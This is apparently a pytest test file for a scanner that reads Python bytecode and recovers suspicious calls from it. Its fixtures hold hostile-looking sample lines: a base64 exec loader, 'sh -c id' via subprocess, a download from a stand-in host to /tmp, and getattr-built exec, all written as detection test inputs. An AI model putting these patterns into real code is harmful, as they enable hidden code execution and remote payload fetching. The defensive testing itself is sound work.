"""Bytecode: names and strings are read for every version, and nothing is unmarshalled."""

from __future__ import annotations

import random
import struct
import time
from pathlib import Path

import pytest

import pratique
from pratique.domain.locator import Locator
from pratique.domain.part import Code, Part
from pratique.engine.walk import Account, Walk
from pratique.formats.bytecode_text import text_of
from pratique.formats.contract import Scope
from pratique.formats.marshal_values import Blob, CodeObject, MarshalProblem, Reader
from pratique.formats.window import Budget, Limits, Window
from tests.samples.pyc import MAGICS, RELEASED_MAGICS, calling, compiled, pyc, samples, text


def walk(data: bytes) -> tuple[list[Part], Account]:
    budget = Budget(Limits(seconds=20))
    walk_ = Walk(budget)
    return list(walk_.parts(Window.of_bytes(data, budget), Scope(Locator("m.pyc")))), walk_.account


def listing(parts: list[Part]) -> str:
    return next(p.source for p in parts if isinstance(p, Code))


@pytest.mark.parametrize("version", [v for v in MAGICS if v != "2.7"])
def test_names_and_strings_are_read(version: str) -> None:
    parts, account = walk(pyc(("os", "system"), (text("echo"),), version))
    assert listing(parts) == "<module> in m.py: os system\n    'echo'"
    assert not account.gaps


def test_the_bytecode_of_this_python_is_read() -> None:
    parts, _ = walk(samples()["own.pyc"])
    assert "<module> in m.py: os f" in listing(parts)


def test_what_a_constant_holds_is_seen() -> None:
    elf = b"\x7fELF\x02\x01\x01" + bytes(57)
    parts, account = walk(pyc((), (b"s" + struct.pack("<i", len(elf)) + elf,)))
    assert "Native" in {type(p).__name__ for p in parts}
    assert not account.gaps


def test_bytes_behind_the_module_are_a_gap() -> None:
    _, account = walk(pyc(("a",)) + b"hidden" * 10)
    assert account.total_bytes - account.accounted_bytes == 60


@pytest.mark.parametrize(
    "data",
    (
        b"(\xff\xff\xff\x7f",
        b"(\xff\xff\xff\xff",
        b")\1" * 5000,
        b"r\0\0\0\0",
        b"c",
        b"q",
        b"l\0\0\0\x80",
        b"{N",
    ),
)
def test_lies_are_refused(data: bytes) -> None:
    with pytest.raises(MarshalProblem):
        Reader(data, 0, 3413).value()


def test_a_tuple_of_itself_and_many_references_end_soon() -> None:
    started = time.process_time()
    doubled = b"\xa9\2NN" + b"".join(b"\xa9\2r" + struct.pack("<i", i) + b"r" + struct.pack("<i", i) for i in range(40))
    parts, _ = walk(pyc((), (b"\xa9\1r\0\0\0\0", b"(\x29\0\0\0" + doubled)))
    assert listing(parts)
    assert time.process_time() - started < 2


def read_back(data: bytes) -> str:
    parts, _ = walk(data)
    return next((p.source for p in parts if isinstance(p, Code) and p.language == "python-from-bytecode"), "")


@pytest.mark.parametrize("version", RELEASED_MAGICS)
def test_instructions_are_read_back(version: str) -> None:
    assert read_back(calling(version)) == "import os\nos.system('id')\n"


@pytest.mark.parametrize(
    "line",
    (
        "exec(base64.b64decode('eA=='), {'a': 1})",
        "run = subprocess.Popen(('sh', '-c', 'id',), shell=False)",
        "open('/tmp/x', 'wb').write(urllib.request.urlopen('http://drill.invalid/x', timeout=3).read())",
        "getattr(builtins, ('ex' + word))(text[0])",
        "deep[key].value = os.environ",
        "exec(*arguments, **keywords)",
    ),
)
def test_statements_come_back_as_they_were(line: str) -> None:
    assert line in read_back(compiled(f"import base64, subprocess, urllib.request\n{line}\n"))


def test_functions_classes_and_branches_keep_their_calls() -> None:
    source = (
        "import os\nclass A(B):\n    def f(self, a):\n        if a:\n            os.system('x' if a > 1 else 'y')\n"
        "        return [os.system(i) for i in a]\ntry:\n    A().f(3)\nexcept OSError as e:\n    eval(e)\n"
    )
    text = read_back(compiled(source))
    for piece in (
        "class A:",
        "    def f(self, a):",
        "os.system(('x' or 'y'))",
        "[os.system(i)]",
        "A().f(3)",
        "eval(e)",
    ):
        assert piece in text


def test_hostile_instructions_end_soon_and_never_raise() -> None:
    rng = random.Random(1)
    names = ("a", "b.c", "x\nimport os", "exec")
    started = time.process_time()
    for version in RELEASED_MAGICS:
        for _ in range(100):
            data = rng.randbytes(400)
            outer = CodeObject("m", names=names, instructions=Blob(0, 400), locals=("p",), cells=("z",), arguments=1)
            inner = CodeObject("f", names=names, instructions=Blob(100, 200), constants=(outer, 1), arguments=9)
            outer.constants = ("s", 1, None, inner, outer, Blob(0, 10), ("k", "w"))
            assert "\nimport os" not in (text_of(outer, data, version) or "")
    assert time.process_time() - started < 10


def test_what_bytecode_without_source_does_is_found(tmp_path: Path) -> None:
    loader = "import base64\n\ndef load(text):\n    exec(base64.b64decode(text))\n\nload('cHJpbnQoInByYXRpcXVlLWRyaWxsIik=')\n"
    (tmp_path / "engine.pyc").write_bytes(compiled(loader, "engine.py"))
    found = pratique.inspect(str(tmp_path)).report.findings
    assert ("package/import-execution", "engine.pyc!/(read back):3") in {
        (f.rule, str(f.where).split(" @")[0]) for f in found
    }
